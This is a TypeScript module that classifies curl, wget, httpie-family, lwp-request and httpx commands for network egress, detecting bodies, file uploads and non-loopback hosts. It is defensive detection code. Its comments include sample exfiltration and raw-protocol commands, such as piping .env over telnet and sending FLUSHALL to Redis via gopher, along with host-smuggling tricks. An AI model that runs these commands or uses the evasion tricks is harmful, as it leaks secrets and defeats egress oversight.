// What an HTTP client sends: curl, wget and the httpie family (http, https, xh, xhs, curlie), each
// read with an option model of its own parser (long-option prefixes, bundles such as `-sSd`, `-XPOST`)
// for the method, whether a body or file leaves, and the hosts it connects to. A download is not
// egress (the file it writes is judged by the write rules); a query built from a file is.
import { allLoopback, urlHost } from './net-hosts.js';
import { optionModel, parseOptions } from './option-model.js';
import type { ShellEgress, ShellSegment } from './types.js';

const CURL = optionModel(
  'abstract-unix-socket= alt-svc= aws-sigv4= cacert= capath= E|cert= cert-type= ciphers= K|config= ' +
    'connect-timeout= connect-to= C|continue-at= b|cookie= c|cookie-jar= create-file-mode= crlfile= curves= ' +
    'd|data= data-ascii= data-binary= data-raw= data-urlencode= delegation= dns-interface= dns-ipv4-addr= ' +
    'dns-ipv6-addr= dns-servers= doh-url= D|dump-header= ech= egd-file= engine= etag-compare= etag-save= ' +
    'expect100-timeout= F|form= form-string= ftp-account= ftp-alternative-to-user= ftp-method= P|ftp-port= ' +
    'ftp-ssl-ccc-mode= happy-eyeballs-timeout-ms= haproxy-clientip= H|header= hostpubmd5= hostpubsha256= ' +
    'hsts= interface= ip-tos= ipfs-gateway= json= keepalive-time= keepalive-cnt= key= key-type= krb= ' +
    'libcurl= limit-rate= local-port= login-options= mail-auth= mail-from= mail-rcpt= max-filesize= ' +
    'max-redirs= m|max-time= netrc-file= noproxy= oauth2-bearer= o|output= output-dir= parallel-max= pass= ' +
    'pinnedpubkey= preproxy= proto= proto-default= proto-redir= x|proxy= proxy-cacert= proxy-capath= ' +
    'proxy-cert= proxy-cert-type= proxy-ciphers= proxy-crlfile= proxy-header= proxy-key= proxy-key-type= ' +
    'proxy-pass= proxy-pinnedpubkey= proxy-service-name= proxy-tls13-ciphers= proxy-tlsauthtype= ' +
    'proxy-tlspassword= proxy-tlsuser= U|proxy-user= proxy1.0= pubkey= Q|quote= random-file= r|range= rate= ' +
    'e|referer= X|request= request-target= resolve= retry= retry-delay= retry-max-time= sasl-authzid= ' +
    'service-name= socks4= socks4a= socks5= socks5-gssapi-service= socks5-hostname= Y|speed-limit= ' +
    'y|speed-time= stderr= t|telnet-option= tftp-blksize= z|time-cond= tls-max= tls13-ciphers= ' +
    'tlsauthtype= tlspassword= tlsuser= trace= trace-ascii= trace-config= unix-socket= T|upload-file= url= ' +
    'url-query= u|user= A|user-agent= variable= w|write-out= G|get I|head s|silent S|show-error f|fail ' +
    'L|location k|insecure v|verbose i|include O|remote-name J|remote-header-name n|netrc q|disable ' +
    'N|no-buffer l|list-only R|remote-time j|junk-session-cookies p|proxytunnel Z|parallel h|help ' +
    'V|version M|manual 0|http1.0 1|tlsv1 2|sslv2 3|sslv3 4|ipv4 6|ipv6 #|progress-bar compressed ' +
    'fail-with-body remote-name-all create-dirs next',
);

const WGET = optionModel(
  'O|output-document= o|output-file= a|append-output= e|execute= i|input-file= B|base= config= ' +
    'bind-address= bind-dns-address= t|tries= T|timeout= dns-timeout= connect-timeout= read-timeout= ' +
    'w|wait= waitretry= Q|quota= limit-rate= user= password= header= max-redirect= proxy-user= ' +
    'proxy-password= referer= save-cookies= load-cookies= post-data= post-file= method= body-data= ' +
    'body-file= certificate= certificate-type= private-key= private-key-type= ca-certificate= ' +
    'ca-directory= crl-file= pinnedpubkey= random-file= egd-file= ciphers= secure-protocol= hsts-file= ' +
    'ftp-user= ftp-password= l|level= A|accept= R|reject= accept-regex= reject-regex= regex-type= ' +
    'D|domains= exclude-domains= follow-tags= ignore-tags= I|include-directories= ' +
    'X|exclude-directories= P|directory-prefix= cut-dirs= default-page= local-encoding= ' +
    'remote-encoding= restrict-file-names= progress= U|user-agent= n= prefer-family= ' +
    'retry-on-http-error= report-speed= compression= input-metalink= preferred-location= warc-file= ' +
    'warc-header= warc-max-size= warc-cdx warc-dedup= warc-tempdir= use-askpass? spider ' +
    'V|version h|help b|background q|quiet v|verbose d|debug c|continue N|timestamping S|server-response ' +
    'r|recursive m|mirror k|convert-links p|page-requisites H|span-hosts L|relative F|force-html',
  { negatable: true },
);

const HTTPIE = optionModel(
  'a|auth= A|auth-type= session= session-read-only= o|output= p|print= pretty= s|style= format-options= ' +
    'response-charset= response-mime= verify= cert= cert-key= cert-key-pass= ssl= ciphers= timeout= ' +
    'max-redirects= proxy= boundary= default-scheme= raw= bearer= resolve= interface= unix-socket= ' +
    'http-version= max-headers= j|json f|form multipart offline I|ignore-stdin check-status F|follow all ' +
    'h|headers b|body v|verbose q|quiet S|stream c|continue d|download x|compress debug traceback ' +
    'version help ignore-netrc sorted unsorted chunked path-as-is https curl curl-long',
);

const DATA_CURL =
  /^--(data|data-ascii|data-binary|data-raw|data-urlencode|json|form|form-string|upload-file)(=|$)/;
const PROXY_CURL =
  /^--(proxy|preproxy|socks4|socks4a|socks5|socks5-hostname|connect-to|resolve|config|proxy1\.0)(=|$)/;
/** Command substitution in a word: a command's output is part of what is sent. */
const SUBSTITUTION = /\$\(|`/;
/**
 * A free word that starts with an expansion or an xargs/parallel item (`$OPTS`, `{}`): at run time it
 * may be an option such as `-d@secret`, so what is sent cannot be told.
 */
const MAY_BE_OPTION = /^(\$|`|\{\d*\})/;
const mayBeOption = (words: readonly string[]) => words.some((w) => MAY_BE_OPTION.test(w));

/** Values of one canonical option (`--name=value` entries). */
function values(canonical: readonly string[], name: string): string[] {
  const prefix = `${name}=`;
  return canonical.filter((c) => c.startsWith(prefix)).map((c) => c.slice(prefix.length));
}

const has = (canonical: readonly string[], name: string) => canonical.includes(name);

export function curlEgress(seg: ShellSegment): ShellEgress {
  const parsed = parseOptions(CURL, seg.args);
  const c = parsed.canonical;
  const urls = [...parsed.positionals, ...values(c, '--url')];
  const hosts = seg.program === 'curlie' ? httpieHosts(urls) : urls.map((u) => urlHost(u));
  const body = c.some((o) => DATA_CURL.test(o));
  // `@file` data (and `name@file` for --data-urlencode/--url-query), `-H @file`, `--proxy-header @file`:
  // a file's contents leave.
  const fileData =
    values(c, '--data')
      .concat(values(c, '--data-ascii'), values(c, '--data-binary'), values(c, '--json'))
      .some((v) => v.startsWith('@')) ||
    values(c, '--data-urlencode')
      .concat(values(c, '--url-query'))
      .some((v) => /^[^=]*@/.test(v)) ||
    values(c, '--header')
      .concat(values(c, '--proxy-header'))
      .some((v) => v.startsWith('@')) ||
    // --etag-compare sends the file's text as If-None-Match.
    has(c, '--etag-compare');
  const dynamic = [...urls, ...c].some((w) => SUBSTITUTION.test(w));
  // --expand-* substitutes --variable values (which may be files) into what is sent.
  const expands = c.some((o) => o.startsWith('--expand-'));
  const config = has(c, '--config');
  const requested = values(c, '--request').pop()?.toUpperCase();
  const get = has(c, '--get');
  const head = has(c, '--head');
  let method = requested;
  if (method === undefined) {
    if (head) method = 'HEAD';
    else if (has(c, '--upload-file')) method = 'PUT';
    else if (body && !get) method = 'POST';
    else method = 'GET';
  }
  const data =
    fileData ||
    dynamic ||
    expands ||
    config ||
    (body && !get && !head) ||
    mayBeOption(parsed.positionals) ||
    curlieItems(seg, parsed.positionals);
  // gopher:// and dict:// carry raw bytes in the URL to any TCP service (`gopher://127.0.0.1:6379/_FLUSHALL`):
  // a write to whatever listens there, loopback included, that no HTTP reading describes.
  const raw = urls.some((u) => RAW_PROTOCOL.test(u));
  const remote = raw || c.some((o) => PROXY_CURL.test(o)) || !localOnly(hosts, has(c, '--unix-socket'));
  return { kind: 'http', method, data: data || raw, hosts, remote };
}

/** URL schemes whose path is bytes sent as they are to the port (telnet: stdin). */
// telnet:// sends curl's stdin to the host whatever the path (`cat .env | curl telnet://host:23`).
const RAW_PROTOCOL = /^\s*((gophers?|dict):\/\/[^/]*\/.|telnet:\/\/)/i;

/** curlie takes httpie request items after the URL. */
function curlieItems(seg: ShellSegment, positionals: readonly string[]): boolean {
  return seg.program === 'curlie' && positionals.slice(1).some((p) => itemIsData(p));
}

export function wgetEgress(seg: ShellSegment): ShellEgress {
  const parsed = parseOptions(WGET, seg.args);
  const c = parsed.canonical;
  // -e runs wgetrc commands: their keys ignore case, `-` and `_` (post_data, postdata, POST-DATA).
  const commands = values(c, '--execute').map((v) => v.toLowerCase().replace(/[-_\s]/g, ''));
  const body =
    ['--post-data', '--post-file', '--body-data', '--body-file'].some((o) => has(c, o)) ||
    commands.some((k) => /^(postdata|postfile|bodydata|bodyfile)=/.test(k));
  const method =
    (values(c, '--method').pop() ?? commands.find((k) => k.startsWith('method='))?.slice(7))?.toUpperCase() ??
    (body ? 'POST' : has(c, '--spider') ? 'HEAD' : 'GET');
  const hosts = parsed.positionals.map((u) => urlHost(u));
  const config = has(c, '--config') || has(c, '--input-file');
  const proxy = commands.some((k) => /^(https?|ftp)proxy=|^useproxy=on|^useproxy=1/.test(k));
  const dynamic = [...parsed.positionals, ...c].some((w) => SUBSTITUTION.test(w));
  return {
    kind: 'http',
    method,
    // -i: the URLs are read from a file (or stdin), whatever it holds: its contents are sent.
    data: body || dynamic || has(c, '--config') || has(c, '--input-file') || mayBeOption(parsed.positionals),
    hosts,
    remote: config || proxy || !localOnly(hosts, false),
  };
}

/** http, https, xh, xhs: `[METHOD] URL [ITEM …]`; data items, --raw or piped stdin are a body. */
export function httpieEgress(seg: ShellSegment, input: boolean): ShellEgress | undefined {
  const parsed = parseOptions(HTTPIE, seg.args);
  const c = parsed.canonical;
  // --offline builds the request and prints it; --curl (xh) prints a curl command instead.
  if (has(c, '--offline') || has(c, '--curl') || has(c, '--curl-long')) return undefined;
  const pos = parsed.positionals;
  const methodFirst = pos.length >= 2 && /^[A-Za-z]+$/.test(pos[0] as string);
  const url = methodFirst ? pos[1] : pos[0];
  const items = pos.slice(methodFirst ? 2 : 1);
  const hosts = url === undefined ? [] : httpieHosts([url]);
  const body = items.some(itemIsData) || has(c, '--raw') || (input && !has(c, '--ignore-stdin'));
  const dynamic = pos.some((w) => SUBSTITUTION.test(w));
  const method = methodFirst ? (pos[0] as string).toUpperCase() : body ? 'POST' : 'GET';
  const remote = has(c, '--proxy') || has(c, '--resolve') || !localOnly(hosts, has(c, '--unix-socket'));
  return { kind: 'http', method, data: body || dynamic || mayBeOption(pos), hosts, remote };
}

/**
 * httpie's URL shorthand, rewritten as httpie rewrites it (`:3000/x` → `localhost:3000/x`, and
 * `:3000@evil.example` → `localhost:3000@evil.example`, whose host is evil.example), then read.
 */
function httpieHosts(urls: readonly string[]): string[] {
  return urls.map((u) => {
    const m = /^:(?!:)(\d*)(.*)$/s.exec(u);
    if (!m) return urlHost(u);
    return urlHost(`localhost${m[1] ? `:${m[1]}` : ''}${m[2]}`);
  });
}

// httpie request items: the earliest separator decides, the longest one at that position wins.
const SEPARATORS = [':=@', '==@', '=@', ':@', ':=', '==', '=', '@', ':', ';'];
const DATA_SEPARATORS = new Set([':=@', '==@', '=@', ':@', ':=', '=', '@']);

/** Whether a request item sends data: a field, raw JSON, a file, or a header or query read from a file. */
export function itemIsData(item: string): boolean {
  for (let i = 0; i < item.length; i++) {
    if (item[i] === '\\') {
      i++;
      continue;
    }
    for (const sep of SEPARATORS) {
      if (item.startsWith(sep, i)) return DATA_SEPARATORS.has(sep);
    }
  }
  return false;
}

/** Every host loopback (or a Unix socket chosen instead of the host). */
function localOnly(hosts: readonly string[], unixSocket: boolean): boolean {
  return unixSocket || allLoopback(hosts);
}

/** libwww-perl's lwp-request and its POST/PUT names: the content is read from stdin. */
export function lwpEgress(seg: ShellSegment): ShellEgress {
  const at = seg.args.indexOf('-m');
  const method =
    (at >= 0 ? seg.args[at + 1] : seg.program === 'lwp-request' ? 'GET' : seg.program)?.toUpperCase() ??
    'GET';
  const urls = at < 0 ? seg.positionals : seg.positionals.filter((p) => p !== seg.args[at + 1]);
  const hosts = urls.map((u) => urlHost(u));
  const data = /^(POST|PUT|PATCH)$/.test(method) || mayBeOption(urls);
  return { kind: 'http', method, data, hosts, remote: !localOnly(hosts, false) };
}

const HTTPX_DATA = /^(-d|--data|-f|--files|-j|--json|-c|--content)(=|$)/;

/** The httpx command-line client: `-d/--data`, `-f/--files`, `-j/--json`, `-c/--content` send a body. */
export function httpxEgress(seg: ShellSegment): ShellEgress {
  const at = seg.args.findIndex((a) => a === '-m' || a === '--method');
  const method = (at >= 0 ? seg.args[at + 1] : undefined)?.toUpperCase();
  const body = seg.args.some((a) => HTTPX_DATA.test(a));
  const url = seg.args.find((a) => /^https?:\/\//i.test(a));
  const hosts = url === undefined ? [] : [urlHost(url)];
  return {
    kind: 'http',
    method: method ?? (body ? 'POST' : 'GET'),
    data: body || mayBeOption(seg.positionals),
    hosts,
    remote: seg.args.some((a) => a.startsWith('--proxy')) || !localOnly(hosts, false),
  };
}
